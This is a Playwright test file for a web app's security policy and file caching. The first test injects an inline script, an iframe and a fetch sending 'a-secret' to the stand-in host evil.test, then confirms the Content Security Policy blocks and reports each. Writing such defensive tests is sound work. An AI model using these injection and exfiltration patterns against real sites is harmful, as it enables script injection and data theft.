import { editionSchema } from '@raizes/domain/bible/edition';
import * as v from 'valibot';
import { expect, test, watchPolicy } from './support/test';

test('violations of the policy are reported and blocked', async ({ browser, contextOptions }) => {
  // A separate context, because these violations would fail the default one.
  // oxlint-disable-next-line no-restricted-properties
  const context = await browser.newContext(contextOptions);
  const refused = watchPolicy(context);
  const page = await context.newPage();
  await page.goto('/auth');
  const reported = (of: RegExp) => expect.poll(() => refused.join('\n')).toMatch(of);

  await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'document.title = "injected"';
    document.body.append(script);
  });
  await reported(/script-src/);
  await page.evaluate(() => {
    const frame = document.createElement('iframe');
    frame.src = 'https://evil.test/';
    document.body.append(frame);
  });
  await reported(/frame-src/);
  await page.evaluate(() => fetch('https://evil.test/?what=a-secret').catch(() => undefined));
  await reported(/connect-src/);
  await page.evaluate(() => document.body.setAttribute('style', 'display: none'));
  await reported(/style-src-attr/);
  await page.evaluate(() => {
    const frame = document.createElement('iframe');
    frame.src = '/dashboard';
    document.body.append(frame);
  });
  await reported(/frame-src.*\n.*dashboard|dashboard.*\n?.*frame-src/);
  await expect(page).not.toHaveTitle('injected');
  await context.close();
});

test('the Bible’s files are served and cached as files, and missing ones are 404', async ({
  request,
}) => {
  const get = async (path: string) => {
    const response = await request.get(path);
    return [response.status(), response.headers()['cache-control']];
  };
  const answer = await request.get('/bible/edition.json');
  expect(answer.headers()['cache-control']).toBe('no-cache');
  const [book] = v.parse(editionSchema, await answer.json()).books;
  expect(await get(`/bible/${book?.file}`)).toEqual([200, 'public, max-age=31536000, immutable']);
  expect(await get('/bible/GEN.000000000000.json')).toContain(404);
  // The reader caches the books itself, so that a new version of the app does not download them again.
  expect(await (await request.get('/sw.js')).text()).not.toContain('bible/');
});
